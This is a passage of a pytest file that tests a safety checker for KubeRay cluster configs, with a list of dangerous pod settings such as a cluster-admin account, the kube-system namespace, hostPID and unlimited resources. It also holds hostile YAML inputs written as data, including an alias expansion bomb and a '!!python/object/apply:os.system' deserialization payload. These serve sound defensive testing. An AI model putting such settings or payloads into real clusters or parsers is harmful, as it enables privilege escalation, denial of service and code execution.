    "for ever": (lambda c: c["spec"].pop("shutdownAfterJobFinishes"), "shutdownAfterJobFinishes is off"),
    "for days": (lambda c: c["spec"].update(ttlSecondsAfterFinished=10**6), "ttlSecondsAfterFinished: got 1000000"),
    "idling": (lambda c: cluster(c)["autoscalerOptions"].update(idleTimeoutSeconds=10**6), "idleTimeoutSeconds: got 1000000"),
    "no limits": (lambda c: worker(c).pop("resources"), "got no resources.limits"),
    "account": (lambda c: pod(c).update(serviceAccountName="cluster-admin"), "got the service account 'cluster-admin'"),
    "namespace": (lambda c: c["metadata"].update(namespace="kube-system"), "metadata.namespace: got one of Kubernetes itself"),
    "everywhere": (lambda c: pod(c).update(tolerations=[{"operator": "Exists"}]), "tolerates every machine"),
    "one machine": (lambda c: pod(c).update(nodeName="x"), "got nodeName, which goes past the scheduler"),
    "no spec": (lambda c: c.pop("spec"), "error: spec.rayClusterSpec: got nothing"),
    "no pods": (lambda c: pod(c).pop("containers"), "error: gpu: got no template.spec.containers"),
    "texts": (lambda c: group(c).update(maxReplicas="8"), "error: gpu.maxReplicas: got '8', expected a whole number"),
    "api": (lambda c: c.update(apiVersion="v1"), "error: apiVersion: got 'v1', expected ray.io/v1"),
}


@pytest.mark.parametrize("name", PODS)
def test_a_dangerous_pod_is_told(tmp_path: Path, name: str) -> None:
    change, words = PODS[name]
    found = changed(tmp_path, "deploy/rayjob.yaml", change)
    assert any(words in line for line in found), found


def test_the_shipped_job_passes_and_says_what_it_starts(tmp_path: Path) -> None:
    path = tmp_path / "job.yaml"
    path.write_text(filled("deploy/rayjob.yaml"))
    assert check(path) == ([], f"RayJob bdray-demo: a head, 0 to 8 gpu workers; kubectl apply -f {path}")


@pytest.mark.parametrize(("kind", "field"), [("RayCluster", ""), ("RayService", "rayClusterConfig")])
def test_the_other_kinds_of_kuberay_are_checked_too(tmp_path: Path, kind: str, field: str) -> None:
    config = job()
    config |= {"kind": kind, "spec": {field: cluster(config)} if field else cluster(config)}
    assert findings(tmp_path, yaml.safe_dump(config)) == []
    inner = config["spec"][field] if field else config["spec"]
    inner["headGroupSpec"]["template"]["spec"]["hostPID"] = True
    assert findings(tmp_path, yaml.safe_dump(config)) == [
        "error: head: got hostPID, which shares the machine with every cell; delete it"
    ]


def test_other_documents_of_the_file_are_looked_at(tmp_path: Path) -> None:
    others = [
        {"apiVersion": "v1", "kind": "Secret", "stringData": {"x": "y"}},
        {"apiVersion": "v1", "kind": "Service", "spec": {"type": "NodePort"}},
        {"apiVersion": "v1", "kind": "Namespace"},
    ]
    found = findings(tmp_path, yaml.safe_dump_all([job(), *others]))
    assert [line.split(":")[1] for line in found] == [" Secret", " Service", " kind Namespace"]
    text = yaml.safe_dump({"apiVersion": "v1", "kind": "List", "items": [job(), *others]})
    assert findings(tmp_path, text) == found


# What is hardly a file


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a: &a [*a]\n", "contains itself"),
        ("a: " + "[" * 5000 + "]" * 5000 + "\n", "fields within fields"),
        (
            "a: &a [x, x]\n"
            + "".join(f"{n}: &{n} [{', '.join(['*' + p] * 9)}]\n" for p, n in zip("abcdefg", "bcdefgh", strict=True)),
            "more than 100000",
        ),
        ("a: " + "9" * 5000 + "\n", "a value that is none"),
        ("a: 2001-13-45\n", "a value that is none"),
        ("a: !!timestamp x\n", "a value that is none"),
        ("a: !!python/object/apply:os.system ['true']\n", "could not determine a constructor"),
        ("1: x\n", "got 1 for the name of a field"),
        ("~: x\n", "got None for the name of a field"),
        ("a: \x00\n", "expected YAML"),
        ("cluster_name: a\n---\ncluster_name: b\n", "got 2 documents, expected one"),
    ],
    ids=range(11),
)
def test_what_could_stop_the_check_is_a_sentence(tmp_path: Path, text: str, words: str) -> None:
    path = tmp_path / "x.yaml"
    path.write_text(text)
    with pytest.raises(BadInput, match=re.escape(words)) as caught:
        check(path)
    assert len(str(caught.value)) < 400


def test_bytes_pipes_and_long_files_are_refused(tmp_path: Path) -> None:
    import os

    path = tmp_path / "x.yaml"
    path.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(BadInput, match="cannot read"):
        check(path)
    path.write_text("# x\n" * 300_000)
    with pytest.raises(BadInput, match="got 1200000 bytes"):
        check(path)
    os.mkfifo(tmp_path / "pipe.yaml")
    with pytest.raises(BadInput, match="a device or a pipe"):
        check(tmp_path / "pipe.yaml")
    with pytest.raises(BadInput, match="cannot read"):
        check(Path("a\0b"))
    path.write_bytes(b"\xef\xbb\xbf" + filled("cluster.yaml").encode())
    assert check(path)[0] == []
